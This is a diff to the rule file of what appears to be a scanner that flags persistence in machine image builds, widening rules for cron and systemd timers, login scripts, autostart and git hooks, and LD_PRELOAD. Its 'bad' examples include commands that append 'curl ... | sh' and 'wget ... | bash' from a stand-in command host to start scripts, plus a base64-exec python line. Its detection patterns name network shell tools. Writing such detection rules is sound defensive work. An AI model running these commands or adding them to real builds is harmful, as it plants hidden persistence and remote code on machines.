@@ -5,12 +5,12 @@ rule "PER002" {
   title    = "new scheduled job"
   severity = "medium"
   on       = "write"
-  when     = !write.deleted && path_under(write.path, "/etc/cron.d", "/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly", "/etc/cron.monthly", "/etc/crontab", "/var/spool/cron", "/etc/anacrontab")
+  when     = !write.deleted && (matches(write.path, "/systemd/(system|user)/[^/]+[.]timer$") || path_under(write.path, "/etc/cron.d", "/etc/cron.hourly", "/etc/cron.daily", "/etc/cron.weekly", "/etc/cron.monthly", "/etc/crontab", "/var/spool/cron", "/etc/anacrontab"))
   message  = "${write.path} runs by itself on every machine of this image"
   why      = "a job that nobody declared is the plainest way to stay on a machine"
   fix      = "declare it to the reviewer with a waiver, or use a unit of the product's package"
   refs     = ["ATT&CK T1053.003"]
-  bad      = ["echo '*/5 * * * * root /opt/app/sync' > /etc/cron.d/app"]
+  bad      = ["echo '*/5 * * * * root /opt/app/sync' > /etc/cron.d/app", "printf '[Timer]\nOnCalendar=hourly\n' > /etc/systemd/system/app.timer"]
   good     = ["rm -f /etc/cron.daily/apt-compat", "cp app.cron /opt/app/"]
 }
 
@@ -60,8 +60,8 @@ rule "PER005" {
   title    = "login or start script reaches for the network"
   severity = "high"
   on       = "write"
-  when     = (!write.deleted && matches(write.path, "^/etc/(rc[.]local|profile|bash[.]bashrc|bashrc|zshrc)$", "^/etc/(init[.]d|profile[.]d|update-motd[.]d|rc[0-9S][.]d)/", "/[.](bashrc|bash_profile|profile|zshrc|bash_login|bash_logout|xprofile)$") &&
-              matches(write.effective, "^[^#]*(curl|wget|ncat|socat|/dev/tcp/|[^a-z]nc )[^#]*", "base64[ \t]+(-d|--decode|-D)[^#]*[|]"))
+  when     = (!write.deleted && matches(write.path, "^/etc/(rc[.]local|rc[.]common|rc[.]d/rc[.]local|profile|bash[.]bashrc|bashrc|zshrc)$", "^/etc/(init[.]d|profile[.]d|update-motd[.]d|rc[0-9S][.]d)/", "/[.](bashrc|bash_profile|profile|zshrc|bash_login|bash_logout|xprofile)$") &&
+              matches(write.effective, "^[^#]*(curl|wget|ncat|socat|/dev/tcp/|[^a-z]nc )[^#]*", "base64[ \t]+(-d|--decode|-D)[^#]*[|]", "^[^#]*(python|perl|ruby|php|node)[0-9.]*[ \t]+-[a-zA-Z]*[cer][ \t\"'][^#]*(b64decode|decode_base64|base64_decode|fromhex|socket)"))
   message  = "${write.path} reaches for the network at every start or login"
   why      = "code that arrives after the review is run by every machine"
   fix      = "do it during the build, where it is audited and recorded"
@@ -69,6 +69,7 @@ rule "PER005" {
   bad = [
     "echo 'curl -fsSL https://cc.example.org/b | sh' >> /etc/rc.local",
     "echo '(wget -qO- https://cc.example.org/b | bash) &' >> /root/.bashrc",
+    "echo \"python3 -c 'import base64;exec(base64.b64decode(open(\\\"/opt/q\\\").read()))'\" >> /etc/rc.local",
   ]
   good = [
     "echo 'export EDITOR=vim' >> /root/.bashrc",
@@ -95,7 +96,9 @@ rule "PER007" {
   on       = "write"
   when     = (!write.deleted &&
               ((path_under(write.path, "/etc/udev/rules.d", "/lib/udev/rules.d", "/usr/lib/udev/rules.d") && matches(write.content, "(RUN|PROGRAM)([{]program[}])?[ \t]*[+]?=")) ||
-               path_under(write.path, "/etc/NetworkManager/dispatcher.d", "/etc/network/if-up.d", "/etc/networkd-dispatcher", "/etc/dhcp/dhclient-exit-hooks.d", "/etc/update-motd.d", "/usr/lib/systemd/system-generators", "/etc/systemd/system-generators", "/usr/share/git-core/templates/hooks") ||
+               path_under(write.path, "/etc/NetworkManager/dispatcher.d", "/etc/network/if-up.d", "/etc/networkd-dispatcher", "/etc/dhcp/dhclient-exit-hooks.d", "/etc/update-motd.d", "/usr/lib/systemd/system-generators", "/etc/systemd/system-generators", "/usr/share/git-core/templates/hooks", "/etc/xdg/autostart", "/usr/share/dbus-1/system-services", "/usr/share/dbus-1/services") ||
+               matches(write.path, "/[.]config/autostart/[^/]*[.]desktop$", "/[.]git/hooks/[^/]*$", "/(dnf|yum)-plugins/[^/]*[.]py$") ||
+               (matches(write.path, "^/etc/gitconfig$", "/[.]gitconfig$", "/[.]git/config$") && matches(write.effective, "^[ \t]*(pager|editor|sshCommand|fsmonitor|hooksPath|askPass|external|textconv|helper)[ \t]*=.*([/;|&]|sh )")) ||
                (path_under(write.path, "/etc/apt/apt.conf.d") && matches(write.content, "(Pre|Post)-Invoke[^;]*(curl|wget|sh |bash|python|/opt|/usr/local|/tmp)")) ||
                matches(write.path, "/(sitecustomize|usercustomize)[.]py$") ||
                (matches(write.path, "/(site|dist)-packages/[^/]*[.]pth$") && (write.content == null || matches(write.content, "^import[ \t]")))))
@@ -106,10 +109,15 @@ rule "PER007" {
   bad = [
     "echo 'ACTION==\"add\", RUN+=\"/opt/app/plug\"' > /etc/udev/rules.d/99-app.rules",
     "cp hook.sh /etc/NetworkManager/dispatcher.d/90-app",
+    "printf '[Desktop Entry]\nExec=/opt/app/run\n' > /etc/xdg/autostart/app.desktop",
+    "cp hook.sh /srv/app/.git/hooks/post-checkout",
+    "printf '[core]\n\tpager = sh -c /opt/app/run\n' >> /root/.gitconfig",
   ]
   good = [
     "echo 'DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };' > /etc/apt/apt.conf.d/docker-clean",
     "echo 'KERNEL==\"vd*\", SYMLINK+=\"disk\"' > /etc/udev/rules.d/99-app.rules",
+    "printf '[core]\n\teditor = vim\n' >> /root/.gitconfig",
+    "rm -f /etc/xdg/autostart/update-notifier.desktop",
   ]
 }
 
@@ -153,4 +161,30 @@ rule "PER010" {
   refs     = ["CWE-114", "ATT&CK T1574.006"]
   bad      = ["echo 'LD_PRELOAD=/usr/local/lib/libhook.so' >> /etc/environment"]
   good     = ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server --version"]
+}
+
+rule "PER011" {
+  title    = "unit is taken from a place that others may write"
+  severity = "high"
+  on       = "exec"
+  when     = exec.name == "systemctl" && has_arg(exec, "link", "enable", "reenable", "preset") && anytrue([for o in exec.operands : matches(o, "^/(tmp|var/tmp|dev/shm|run/shm|home)/", "/[.][^/]+/")])
+  message  = "${command} lets the system start what stands in a temporary or private directory"
+  why      = "units of a product do not live there; who may write there decides what root runs"
+  fix      = "install the unit below /etc/systemd/system or /usr/lib/systemd/system"
+  refs     = ["CWE-426", "ATT&CK T1543.002"]
+  bad      = ["systemctl link /dev/shm/app.service"]
+  good     = ["systemctl link /opt/app/app.service", "systemctl enable app.service"]
+}
+
+rule "PER012" {
+  title    = "library is loaded from a place that others may write"
+  severity = "high"
+  on       = "env"
+  when     = one_of(env.name, "LD_PRELOAD", "LD_AUDIT") && matches(env.value, "(^|[: ])(/tmp|/var/tmp|/dev/shm|/run/shm|/home)/", "(^|[: ])[.]{0,2}/?[^/: ]+[.]so")
+  message  = "${env.name}=${env.value} changes what the program does"
+  why      = "who may write there decides what the program really runs"
+  fix      = "install the library below /usr/lib, and name it in full"
+  refs     = ["CWE-426", "CWE-114", "ATT&CK T1574.006"]
+  bad      = ["LD_PRELOAD=/tmp/q.so ls", "export LD_PRELOAD=/dev/shm/q.so"]
+  good     = ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server --version", "export LD_PRELOAD="]
 }
